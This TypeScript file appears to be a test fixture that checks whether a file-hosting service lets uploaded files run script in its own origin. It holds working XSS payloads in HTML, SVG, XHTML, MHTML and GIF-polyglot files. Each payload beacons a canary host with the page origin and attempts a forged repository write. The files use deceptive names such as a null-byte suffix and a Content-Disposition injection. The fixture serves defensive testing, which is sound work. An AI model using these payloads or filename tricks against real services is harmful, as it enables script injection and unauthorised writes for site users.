/** A file that does something, if a browser takes it for what it looks like. */
export interface HostileFile {
  readonly name: string
  /** What a careless server would send it as. */
  readonly type: string
  readonly content: string
}

/** What the script in a file of that name asks the canary for, less the origin that it has. */
export function ranPath(name: string): string {
  return `/ran?by=${encodeURIComponent(name).replaceAll("'", '%27')}&as=`
}

/** A script that tells `canary` that it ran, and as whom, and tries to write to the repository. */
function scriptOf(canary: string, name: string): string {
  return (
    `try { fetch('${canary}${ranPath(name)}' + self.origin, { mode: 'no-cors' }) } catch {}` +
    `try { document.cookie = 'ran=1'; window.name = 'ran' } catch {}` +
    `try { fetch('/users/me/repo/forged', { method: 'PUT', body: 'forged' }) } catch {}`
  )
}

/** Markup and scripts in all forms and under names that try to trick, each of which reports to `canary`. */
export function hostileFiles(canary: string): HostileFile[] {
  const html = (name: string): HostileFile => ({
    name,
    type: 'text/html',
    content: `<!doctype html><p>rendered</p><script>${scriptOf(canary, name)}</script>`,
  })
  const svg = (name: string): HostileFile => ({
    name,
    type: 'image/svg+xml',
    content:
      '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>rendered</text>' +
      `<script><![CDATA[${scriptOf(canary, name)}]]></script></svg>`,
  })
  const script = (name: string, before = ''): HostileFile => ({
    name,
    type: 'text/javascript',
    content: before + scriptOf(canary, name),
  })
  return [
    html('page.html'),
    html('page.HTM'),
    html('page.html%00.txt'),
    html('page.txt;.html'),
    html('"page".html'),
    html("page'; filename*=UTF-8''x.html"),
    html('page.html '),
    html('.html'),
    svg('picture.svg'),
    svg('picture.svg.png'),
    script('script.js'),
    script('module.mjs'),
    script('picture.gif', 'GIF89a/*\u0001*/=1;'),
    {
      name: 'page.xhtml',
      type: 'application/xhtml+xml',
      content:
        '<html xmlns="http://www.w3.org/1999/xhtml"><body>rendered' +
        `<script><![CDATA[${scriptOf(canary, 'page.xhtml')}]]></script></body></html>`,
    },
    {
      name: 'style.css',
      type: 'text/css',
      content: `body { background: url('${canary}/ran?by=style.css') }`,
    },
    {
      name: 'app.webmanifest',
      type: 'application/manifest+json',
      content: JSON.stringify({ icons: [{ src: `${canary}/ran?by=manifest`, sizes: '144x144' }] }),
    },
    {
      name: 'page.mhtml',
      type: 'multipart/related',
      content:
        'MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\nrendered' +
        `<script>${scriptOf(canary, 'page.mhtml')}</script>`,
    },
    { name: 'paper.pdf', type: 'application/pdf', content: '%PDF-1.4\n1 0 obj\n<< >>\nrendered' },
  ]
}

/** A script for a page of the service's own origin that uses the file at `url` in every way there is. */
export function useAsEverything(url: string): string {
  return `(async () => {
    const url = ${JSON.stringify(url)}
    const over = []
    function element(name, attributes, done = true) {
      const made = Object.assign(document.createElement(name), attributes)
      if (done) over.push(new Promise((resolve) => (made.onload = made.onerror = made.onloadedmetadata = resolve)))
      document.body.append(made)
    }
    element('img', { src: url })
    element('script', { src: url })
    element('script', { src: url, type: 'module' })
    element('link', { rel: 'stylesheet', href: url })
    element('video', { src: url })
    element('embed', { src: url }, false)
    element('object', { data: url }, false)
    element('iframe', { src: url }, false)
    element('link', { rel: 'manifest', href: url }, false)
    over.push(import(url).catch(() => {}))
    const failing = (make) => new Promise((resolve) => {
      try {
        const worker = make()
        worker.onerror = resolve
        worker.onmessage = resolve
      } catch {
        resolve()
      }
    })
    over.push(failing(() => new Worker(url)))
    over.push(failing(() => new Worker(url, { type: 'module' })))
    over.push(failing(() => new SharedWorker(url)))
    const importing = new Blob(['try { importScripts("' + new URL(url, location) + '") } catch {}; postMessage(0)'])
    over.push(failing(() => new Worker(URL.createObjectURL(importing))))
    over.push(navigator.serviceWorker?.register(url).catch(() => {}))
    const late = new Promise((resolve) => setTimeout(resolve, 10_000))
    await Promise.race([Promise.all(over), late])
    return [...document.styleSheets].flatMap((sheet) => {
      try {
        return [...sheet.cssRules]
      } catch {
        return []
      }
    }).length
  })()`
}
